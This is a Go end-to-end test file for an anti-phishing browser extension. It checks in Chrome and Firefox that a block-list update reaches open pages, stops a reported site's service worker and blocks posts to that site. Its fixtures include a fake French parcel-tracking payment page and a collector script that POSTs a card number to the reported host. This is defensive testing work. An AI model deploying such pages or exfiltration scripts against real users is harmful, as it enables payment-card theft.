package e2e

import (
	"strings"
	"testing"
	"time"
)

// The reported host's site before the list reports it: a page with a
// payment form, and a service worker that answers every visit by fetching
// from the network (what kept serving it after the list blocked it).
const (
	reportedPage = `<!doctype html><html lang="fr"><meta charset="utf-8"><title>Suivi de colis</title>
<form method="post" action="/payer"><input id="carte" name="carte"><button id="go">Payer</button></form>
<script>window.sw = navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => true);</script>`
	reportedSW = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(clients.claim()));
self.addEventListener("fetch", (e) => {
  if (e.request.mode === "navigate") e.respondWith(fetch("/suivi?via=sw").catch(() =>
    new Response("<title>hors ligne</title><p>hors ligne</p>", {headers: {"Content-Type": "text/html"}})));
});`
	// A page of another site, open before the update, that sends what it
	// collected to the reported host when asked.
	collectorPage = `<!doctype html><title>Jeu concours</title><script>
window.send = () => fetch("http://` + reportedHost + `/payer", {method: "POST", mode: "no-cors", body: "carte=4970101234567890"}).then(() => true, () => true);
</script>`
)

func viaSW(s *site) int {
	n := 0
	for _, a := range s.askedFor(reportedHost) {
		if strings.Contains(a, "via=sw") {
			n++
		}
	}
	return n
}

// A list update that reports a host reaches what the host already had on
// the terminal: its open page is judged again (the warning), its service
// worker no longer serves it, and nothing posted to it arrives — a form
// of another page, with the worker stopped. The control is the same site
// before the update: its worker serves it and the post arrives.
func TestGateListUpdateReachesOpenPages(t *testing.T) {
	b := newBrowser(t)
	b.site.setPage(reportedHost, reportedPage)
	b.site.setFile(reportedHost+"/sw.js", []byte(reportedSW))
	b.site.setPage("jeu-concours.example.org", collectorPage)

	// Control, before the list reports the host.
	page := b.tab(t)
	navigate(page, "http://"+reportedHost+"/")
	eval[bool](t, page, `window.sw`)
	navigate(page, "http://"+reportedHost+"/")
	waitFor(t, "the site's worker serving it (control)", func() bool { return viaSW(b.site) > 0 })
	collector := b.tab(t)
	navigate(collector, "http://jeu-concours.example.org/")
	eval[bool](t, collector, `window.send()`)
	waitFor(t, "the collector's post (control)", func() bool { return len(b.site.postsTo(reportedHost)) == 1 })

	updateToReported(t, b, b.extPage(t))
	waitLocation(t, page, "the open page judged again", func(l string) bool { return strings.HasPrefix(l, b.extURL("pages/warning.html")) })
	hits, posts := b.site.hitsFor(reportedHost), len(b.site.postsTo(reportedHost))

	b.stopWorker(t)
	eval[bool](t, collector, `window.send()`)
	time.Sleep(500 * time.Millisecond)
	b.stopWorker(t)
	tab := b.tab(t)
	navigate(tab, "http://"+reportedHost+"/suivi")
	b.waitWarning(t, tab, reportedHost)
	time.Sleep(500 * time.Millisecond)
	if n := b.site.hitsFor(reportedHost) - hits; n != 0 {
		t.Errorf("after the update, the reported host received %d request(s): %q", n, b.site.askedFor(reportedHost))
	}
	if n := len(b.site.postsTo(reportedHost)) - posts; n != 0 {
		t.Errorf("after the update, %d post(s) arrived", n)
	}
}

// The same in Firefox ESR, the background page asleep before each step.
func TestFirefoxGateListUpdateReachesOpenPages(t *testing.T) {
	prefs := map[string]any{"extensions.background.idle.timeout": 1000}
	for k, v := range swPrefs {
		prefs[k] = v
	}
	f := newFirefoxWith(t, prefs)
	f.site.setPage(reportedHost, reportedPage)
	f.site.setFile(reportedHost+"/sw.js", []byte(reportedSW))
	f.site.setPage("jeu-concours.example.org", collectorPage)

	page := f.tab(t)
	f.navigate(t, page, "http://"+reportedHost+"/")
	f.eval(t, page, `window.sw`)
	f.navigate(t, page, "http://"+reportedHost+"/")
	waitFor(t, "the site's worker serving it (control)", func() bool { return viaSW(f.site) > 0 })
	collector := f.tab(t)
	f.navigate(t, collector, "http://jeu-concours.example.org/")
	f.eval(t, collector, `window.send()`)
	waitFor(t, "the collector's post (control)", func() bool { return len(f.site.postsTo(reportedHost)) == 1 })

	vigie := f.vigiePage(t, "amelii.fr")
	publishReported(t, f.site)
	f.unlockFast(t, vigie)
	if r := f.eval(t, vigie, `chrome.runtime.sendMessage({type: "updateNow"}).then(r => r.result)`); r != "updated" {
		t.Fatalf("update: %s", r)
	}
	f.waitLocation(t, page, "the open page judged again", func(l string) bool { return isWarning(l, reportedHost) })
	hits, posts := f.site.hitsFor(reportedHost), len(f.site.postsTo(reportedHost))
	// The browser's rule for it covers Firefox's own types too (a beacon
	// is "beacon" there, not "ping").
	if r := f.eval(t, vigie, blockRule("Dynamic", reportedHost, "beacon")+`.then(String)`); r != "true" {
		t.Fatalf("no rule of the browser blocks the reported host's beacons: %s", r)
	}

	time.Sleep(2 * time.Second) // asleep
	f.eval(t, collector, `window.send()`)
	time.Sleep(2 * time.Second)
	tab := f.tab(t)
	f.navigate(t, tab, "http://"+reportedHost+"/suivi")
	f.waitLocation(t, tab, "the warning", func(l string) bool { return isWarning(l, reportedHost) })
	time.Sleep(500 * time.Millisecond)
	if n := f.site.hitsFor(reportedHost) - hits; n != 0 {
		t.Errorf("after the update, the reported host received %d request(s): %q", n, f.site.askedFor(reportedHost))
	}
	if n := len(f.site.postsTo(reportedHost)) - posts; n != 0 {
		t.Errorf("after the update, %d post(s) arrived", n)
	}
}
